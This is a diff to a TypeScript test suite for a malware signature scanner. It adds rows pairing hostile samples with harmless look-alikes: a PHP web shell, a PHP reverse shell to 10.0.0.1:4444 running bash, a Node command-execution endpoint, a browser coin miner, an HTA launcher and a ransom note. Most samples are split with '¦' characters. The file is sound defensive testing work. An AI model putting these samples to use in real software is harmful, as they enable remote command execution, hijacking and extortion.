@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict'
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
 import { Budget, type Inspection } from './inspection.ts'
 import { BUILT_IN_RULES, createSignatureInspector, type SignatureInspector } from './signatures.ts'
@@ -302,6 +304,46 @@ const harmless: readonly Row[] = [
   [TEXT, ''],
 ]
 
+/** Of `shells-and-pages.yar`, whose rules overlap with others: what each says, what it hits, and what looks like that. */
+const pages: readonly (readonly [reason: RegExp, type: string, hostile: string, harmless: string])[] = [
+  [
+    /calls a function that a request names/,
+    PHP,
+    '<?php $f = $_G¦ET["f"]; echo $f($_PO¦ST["a"]);',
+    '<?php $f = $_GET["f"]; echo htmlspecialchars($f, $_POST["a"]);',
+  ],
+  [
+    /PHP code connects a shell/,
+    PHP,
+    '<?php $s = fsock¦open("10.0.0.1", 4444); $p = proc_¦open("/bin/bash -i", [$s, $s, $s], $pipes);',
+    '<?php $s = fsockopen("smtp.example.com", 25); $p = proc_open("/usr/sbin/sendmail -t", $spec, $pipes);',
+  ],
+  [
+    /JavaScript code runs a command/,
+    JS,
+    "createServer((request) => { const cmd = url.search¦Params.get('cmd'); require('child_¦process').execSync(cmd) })",
+    "createServer((request) => { const name = url.searchParams.get('name'); require('child_process').execSync('date') })",
+  ],
+  [
+    /mines crypto money in the browser/,
+    HTML,
+    '<script src="https://www.coin¦imp.com/a.js"></script><script>new Coin¦Imp.User("key", "a").start()</script>',
+    '<script src="https://www.coinimp.com/docs.js"></script><p>Call <code>start()</code> of the client.</p>',
+  ],
+  [
+    /HTML application that starts a program/,
+    HTML,
+    '<hta:appli¦cation><script>new ActiveX¦Object("Shell.Application").Shell¦Execute("calc")</script>',
+    '<p>An <code>&lt;hta:application&gt;</code> may say CreateObject("WScript.Shell").Run.</p>',
+  ],
+  [
+    /page is a ransom note/,
+    HTML,
+    '<h1>Your important files have been enc¦rypted</h1>Send 0.5 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq for the private key. Use the Tor Browser.',
+    '<h1>What ransomware says</h1>That your files have been encrypted, and that the private key costs bitcoins. Do not pay.',
+  ],
+]
+
 let signatures: SignatureInspector
 before(async () => {
   signatures = await createSignatureInspector([BUILT_IN_RULES])
@@ -318,6 +360,30 @@ describe('keeps', () => {
     test(nameOf(text), async () =>
       assert.deepEqual(await scan(type, text), { verdict: 'clean', findings: [] }),
     )
+})
+
+describe('shells-and-pages.yar', () => {
+  for (const [reason, type, bad, good] of pages) {
+    test(`${reason.source}: refuses one`, async () => {
+      const inspection = await scan(type, bad)
+      assert.equal(inspection.verdict, 'infected')
+      assert.match('reason' in inspection ? inspection.reason : '', reason)
+    })
+    test(`${reason.source}: keeps what looks like one`, async () => {
+      assert.deepEqual(await scan(type, good), { verdict: 'clean', findings: [] })
+    })
+  }
+
+  test('has such a row for every rule', () => {
+    const rules = readFileSync(join(BUILT_IN_RULES, 'shells-and-pages.yar'), 'utf8')
+    const descriptions = [...rules.matchAll(/description = "(.*)"/g)].map(([, text = '']) => text)
+    assert.equal(descriptions.length, pages.length)
+    for (const text of descriptions)
+      assert.ok(
+        pages.some(([reason]) => reason.test(text)),
+        text,
+      )
+  })
 })
 
 function nameOf(text: string): string {
